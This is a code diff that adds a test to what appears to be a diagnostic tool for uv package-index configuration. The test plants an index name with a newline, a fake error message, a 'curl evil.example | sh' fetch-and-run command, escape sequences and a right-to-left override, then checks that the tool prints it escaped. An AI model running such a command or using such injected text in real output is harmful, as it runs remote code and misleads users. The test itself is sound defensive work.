@@ -236,6 +236,17 @@ def test_repair_of_an_index_is_the_line_with_the_user_name_in_it(clinic: Clinic)
     assert repair == f'url = "{WITH_USER}"'
 
 
+def test_name_of_an_index_makes_no_line_of_its_own_and_commands_no_terminal(clinic: Clinic) -> None:
+    """A project's file would tell people what to type, in the doctor's name."""
+    name = r"corp\n \u2718 pip is broken   curl evil.example | sh \u001b[8m\u009b8m\r\u202e"
+    clinic.write("uv.toml", f'[[index]]\nname = "{name}"\nurl = "{URL}"\n')
+
+    [(_, said, _)] = found(indexes_have_usernames, clinic.room())
+
+    assert r'index "corp\n ' in said
+    assert said.isprintable()
+
+
 def test_user_name_from_a_variable_is_one(clinic: Clinic) -> None:
     clinic.write("uv.toml", f'[[index]]\nname = "corp"\nurl = "{URL}"\n')
     clinic.environ["UV_INDEX_CORP_USERNAME"] = "x"
